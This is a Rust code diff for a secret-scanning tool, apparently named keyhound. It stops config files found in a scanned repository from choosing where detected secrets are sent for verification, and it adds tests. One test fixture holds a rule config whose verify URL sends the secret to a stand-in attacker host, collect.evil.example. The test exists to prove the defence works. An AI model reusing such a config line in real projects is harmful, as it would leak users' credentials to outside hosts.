@@ -111,6 +111,11 @@ impl Allowlist {
         self.paths.iter().any(|r| r.is_match(path))
     }
 
+    /// Whether it lists paths.
+    pub fn has_paths(&self) -> bool {
+        !self.paths.is_empty()
+    }
+
     /// True when nothing is listed.
     pub fn is_empty(&self) -> bool {
         self.regexes.is_empty() && self.stopwords.is_empty() && self.paths.is_empty()
@@ -348,12 +353,99 @@ fn compile_rule(
     })
 }
 
+/// Who wrote a config file, which decides what it may do. A file that came with the content
+/// being scanned is written by whoever wrote that content: it may add rules and allowlists
+/// (and the summary says what they removed), but it may not send secrets anywhere.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+#[non_exhaustive]
+pub enum ConfigTrust {
+    /// The user's own file (named on the command line, or a repository config the user
+    /// chose to trust): its verify blocks are used.
+    User,
+    /// Found in the scanned repository or directory: its verify blocks are ignored.
+    Repository,
+}
+
+/// Why a verify block in a config file is not used.
+#[derive(Debug, Clone, PartialEq, Eq)]
+#[non_exhaustive]
+pub enum VerifyIgnored {
+    /// The file came from the scanned repository ([`ConfigTrust::Repository`]).
+    Untrusted,
+    /// The rule has a built-in id, and the block names another host than the built-in
+    /// rule's: a built-in id keeps its provider's host whatever a config says.
+    BuiltinHost {
+        /// The built-in rule's host (`None`: the built-in rule has no verify block).
+        builtin: Option<String>,
+        /// The host the config named.
+        config: String,
+    },
+}
+
+/// Something a config file asked for that keyhound did not do.
+#[derive(Debug, Clone, PartialEq, Eq)]
+#[non_exhaustive]
+pub enum ConfigWarning {
+    /// A rule's `[rules.verify]` block was dropped (the rule itself is used).
+    VerifyIgnored {
+        /// The config file.
+        file: String,
+        /// The rule id.
+        rule: String,
+        /// Why.
+        why: VerifyIgnored,
+    },
+}
+
+impl std::fmt::Display for ConfigWarning {
+    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
+        match self {
+            ConfigWarning::VerifyIgnored { file, rule, why } => {
+                write!(f, "{file}: rule `{rule}`: verify block ignored: ")?;
+                match why {
+                    VerifyIgnored::Untrusted => f.write_str(
+                        "the file comes from the scanned content, which may not choose where secrets are sent",
+                    ),
+                    VerifyIgnored::BuiltinHost { builtin: Some(b), config } => write!(
+                        f,
+                        "`{rule}` is a built-in rule, whose secrets go only to {b} (not {config})"
+                    ),
+                    VerifyIgnored::BuiltinHost { builtin: None, config } => write!(
+                        f,
+                        "`{rule}` is a built-in rule without a verify block; its secrets are not sent to {config} (give the rule another id)"
+                    ),
+                }
+            }
+        }
+    }
+}
+
+/// What a config file changed about the built-in rules, for the run's summary.
+#[derive(Debug, Clone, Default, PartialEq, Eq)]
+#[non_exhaustive]
+pub struct ConfigEffect {
+    /// The config file (as given).
+    pub file: String,
+    /// `[extend] default = false`: the built-in rules are not used.
+    pub replaced_builtins: bool,
+    /// Built-in rules turned off by `[extend] disable`.
+    pub disabled: Vec<String>,
+    /// Built-in rules the file redefines (same id).
+    pub overridden: Vec<String>,
+    /// Rules the file adds.
+    pub added: usize,
+    /// Whether it has a global allowlist.
+    pub allowlist: bool,
+}
+
 /// All rules in force, plus the allowlist that applies to every rule.
 #[derive(Debug, Default)]
 pub struct RuleSet {
     rules: Vec<Rule>,
     /// Allowlist applying to all rules (from config files).
     pub allowlist: Allowlist,
+    warnings: Vec<ConfigWarning>,
+    effect: Option<ConfigEffect>,
 }
 
 impl RuleSet {
@@ -377,7 +469,12 @@ impl RuleSet {
 
     /// The built-in rules extended (or replaced) by a user's config file.
     pub fn with_config(path: &Path) -> Result<RuleSet> {
-        let file = read_rule_file(path)?;
+        RuleSet::from_config(read_rule_file(path)?, ConfigTrust::User)
+    }
+
+    /// The built-in rules extended (or replaced) by a parsed config file, used as `trust`
+    /// allows (see [`ConfigTrust`]); what was not used is in [`RuleSet::warnings`].
+    pub fn from_config(file: RuleFile, trust: ConfigTrust) -> Result<RuleSet> {
         let extend = file.extend.clone().unwrap_or_default();
         let mut set = if extend.default {
             RuleSet::builtin()?
@@ -395,12 +492,42 @@ impl RuleSet {
             }
         }
         set.rules.retain(|r| !extend.disable.contains(&r.id));
-        set.add_file(file, true)?;
+        let mut effect = ConfigEffect {
+            file: file.origin.clone(),
+            replaced_builtins: !extend.default,
+            disabled: extend.disable.clone(),
+            allowlist: file.allowlist.as_ref().is_some_and(|a| !a.is_empty()),
+            ..ConfigEffect::default()
+        };
+        for spec in &file.rules {
+            if set.rules.iter().any(|r| r.id == spec.id) {
+                effect.overridden.push(spec.id.clone());
+            } else {
+                effect.added += 1;
+            }
+        }
+        set.add_file_as(file, true, trust)?;
+        set.effect = Some(effect);
         Ok(set)
     }
 
+    /// What the config file changed, if one was loaded.
+    pub fn config_effect(&self) -> Option<&ConfigEffect> {
+        self.effect.as_ref()
+    }
+
+    /// What config files asked for that was not done (verify blocks dropped).
+    pub fn warnings(&self) -> &[ConfigWarning] {
+        &self.warnings
+    }
+
     /// Adds a parsed file: its rules (replacing rules with the same id) and its allowlist.
+    /// The file is trusted ([`ConfigTrust::User`]).
     pub fn add_file(&mut self, file: RuleFile, eager: bool) -> Result<()> {
+        self.add_file_as(file, eager, ConfigTrust::User)
+    }
+
+    fn add_file_as(&mut self, file: RuleFile, eager: bool, trust: ConfigTrust) -> Result<()> {
         if let Some(a) = &file.allowlist {
             self.allowlist
                 .extend(Allowlist::compile(a, &file.origin, "[allowlist]")?);
@@ -415,12 +542,41 @@ impl RuleSet {
                     "defined twice in this file".into(),
                 ));
             }
-            let rule = Rule::from_spec(spec, &file.origin)?;
+            let mut rule = Rule::from_spec(spec, &file.origin)?;
             if eager {
                 rule.check()?;
             }
-            match self.rules.iter_mut().find(|r| r.id == rule.id) {
-                Some(old) => *old = rule,
+            let old = self.rules.iter().position(|r| r.id == rule.id);
+            if let Some(check) = rule.verify.take() {
+                let builtin = old
+                    .map(|i| &self.rules[i])
+                    .filter(|r| r.origin.starts_with("builtin:"));
+                let why = match builtin {
+                    _ if trust == ConfigTrust::Repository => Some(VerifyIgnored::Untrusted),
+                    Some(b) => match &b.verify {
+                        Some(bc) if bc.host() == check.host() => None,
+                        other => Some(VerifyIgnored::BuiltinHost {
+                            builtin: other.as_ref().map(|c| c.host().to_string()),
+                            config: check.host().to_string(),
+                        }),
+                    },
+                    None => None,
+                };
+                match why {
+                    None => rule.verify = Some(check),
+                    Some(why) => {
+                        // A redefined built-in rule keeps the built-in check, whatever its file.
+                        rule.verify = builtin.and_then(|b| b.verify.clone());
+                        self.warnings.push(ConfigWarning::VerifyIgnored {
+                            file: file.origin.clone(),
+                            rule: rule.id.clone(),
+                            why,
+                        });
+                    }
+                }
+            }
+            match old {
+                Some(i) => self.rules[i] = rule,
                 None => self.rules.push(rule),
             }
         }
@@ -504,6 +660,53 @@ mod tests {
         assert!(parse(&text).unwrap_err().to_string().contains("too long"));
         parse("[[rules]]\nid='Acme.token_v2-x'\ndescription='d'\nregex='a'\nkeywords=['a']\n")
             .unwrap();
+    }
+
+    fn config(text: &str, trust: ConfigTrust) -> RuleSet {
+        RuleSet::from_config(RuleFile::parse(".keyhound.toml", text).unwrap(), trust).unwrap()
+    }
+
+    const EVIL_VERIFY: &str = "[[rules]]\nid = 'openai-project-key'\ndescription = 'd'\nregex = 'sk-proj-[A-Za-z0-9]{20}'\nkeywords = ['sk-proj-']\n[rules.verify]\nurl = 'https://collect.evil.example/k?v={secret}'\n";
+
+    #[test]
+    fn a_builtin_id_keeps_its_host_whatever_a_config_says() {
+        for trust in [ConfigTrust::User, ConfigTrust::Repository] {
+            let set = config(EVIL_VERIFY, trust);
+            let rule = set.get("openai-project-key").unwrap();
+            assert_eq!(rule.verify.as_ref().unwrap().host(), "api.openai.com");
+            assert_eq!(rule.regex_source(), "sk-proj-[A-Za-z0-9]{20}");
+            assert_eq!(set.warnings().len(), 1, "{trust:?}");
+            let said = set.warnings()[0].to_string();
+            assert!(
+                said.contains("openai-project-key") && said.contains("ignored"),
+                "{said}"
+            );
+            assert_eq!(
+                set.config_effect().unwrap().overridden,
+                ["openai-project-key"]
+            );
+        }
+    }
+
+    #[test]
+    fn repository_configs_cannot_add_verify_blocks() {
+        let text = "[[rules]]\nid = 'acme'\ndescription = 'd'\nregex = 'acme_[a-z]{8}'\nkeywords = ['acme_']\n[rules.verify]\nurl = 'https://api.acme.example/me'\nheaders = { A = '{secret}' }\n";
+        let repo = config(text, ConfigTrust::Repository);
+        assert!(repo.get("acme").unwrap().verify.is_none());
+        assert!(matches!(
+            &repo.warnings()[0],
+            ConfigWarning::VerifyIgnored {
+                why: VerifyIgnored::Untrusted,
+                ..
+            }
+        ));
+        let user = config(text, ConfigTrust::User);
+        assert_eq!(
+            user.get("acme").unwrap().verify.as_ref().unwrap().host(),
+            "api.acme.example"
+        );
+        assert!(user.warnings().is_empty());
+        assert_eq!(user.config_effect().unwrap().added, 1);
     }
 
     #[test]
